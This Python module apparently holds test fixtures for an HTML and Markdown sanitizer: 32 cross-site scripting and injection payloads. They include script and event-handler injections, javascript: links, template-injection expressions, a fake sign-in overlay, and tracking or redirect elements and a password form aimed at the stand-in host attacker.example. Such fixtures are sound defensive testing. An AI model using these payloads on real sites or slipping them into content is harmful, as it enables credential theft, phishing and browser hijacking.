"""Thirty-two pieces of HTML, Markdown and templates that would do something, were they not text."""

from __future__ import annotations

_FAR = "https://attacker.example"

PAYLOADS = (
    "<script>alert('a1')</script>",
    "</span></h2><script>window.a2 = 1</script>",
    "<img src=x onerror=alert('a3')>",
    f'<img src="{_FAR}/a4.png" width=1 height=1>',
    "<svg onload=alert('a5')><animate onbegin=alert('a5') attributeName=x dur=1s></svg>",
    f'<iframe src="{_FAR}/a6"></iframe><iframe srcdoc="<script>parent.a6=1</script>"></iframe>',
    f'<form action="{_FAR}/a7"><input name=password autofocus onfocus=alert(1)><button>Go</form>',
    '<a href="javascript:alert(\'a8\')" style="position:fixed;inset:0;z-index:9">a8</a>',
    '<div style="position:fixed;inset:0;background:#fff;z-index:99999">a9: sign in again</div>',
    "<style>body{display:none} *{background:url(https://attacker.example/a10)}</style>",
    f'<link rel=stylesheet href="{_FAR}/a11.css"><link rel=preload as=image href="{_FAR}/a11">',
    f'<meta http-equiv=refresh content="0;url={_FAR}/a12">',
    f'<base href="{_FAR}/"><img src=a13.png>',
    f'<object data="{_FAR}/a14"></object><embed src="{_FAR}/a14">',
    f'<video poster="{_FAR}/a15"><source src=x onerror=alert(1)></video><audio src="{_FAR}/a15">',
    "<details open ontoggle=alert('a16')><summary>a16</summary></details>",
    "<dialog open style='position:fixed'>a17</dialog><marquee onstart=alert(1)>a17</marquee>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a18>">',
    "<noscript><p title=\"</noscript><img src=x onerror=alert('a19')>\">",
    "\"><script>alert('a20')</script><b x=\"",
    "' onmouseover='alert(21)' autofocus onfocus='alert(21)' x='",
    "--></style></script></textarea></title><img src=x onerror=alert('a22')>",
    "&lt;script&gt;alert('a23')&lt;/script&gt; &#60;img src=x onerror=alert(23)&#62;",
    "\\u003cscript\\u003ealert('a24')\\u003c/script\\u003e \\x3cimg src=x\\x3e",
    "${alert('a25')} {{constructor.constructor('alert(25)')()}} #{alert(25)} <%= alert(25) %>",
    f"![a26]({_FAR}/a26.png) ![a26][r]\n\n[r]: {_FAR}/a26.png",
    "[a27](javascript:alert('a27')) <javascript:alert(27)> [a27](data:text/html,<script>)",
    "```html\n<script>alert('a28')</script>\n```\n`<b>a28</b>`",
    f"| a29 |\n|---|\n| <img src={_FAR}/a29> |\n\n<https://attacker.example/a29>",
    "# a30\n> **bold** _em_ <u>under</u>\n- [ ] <input type=checkbox checked>",
    "$$\\href{javascript:alert('a31')}{a31}$$ \\(\\unicode{<img src=x onerror=alert(31)>}\\)",
    "a32 \u202eexe.piz\u202c \x1b]8;;https://attacker.example\x1b\\a32\x1b]8;;\x1b\\ <plaintext>",
)
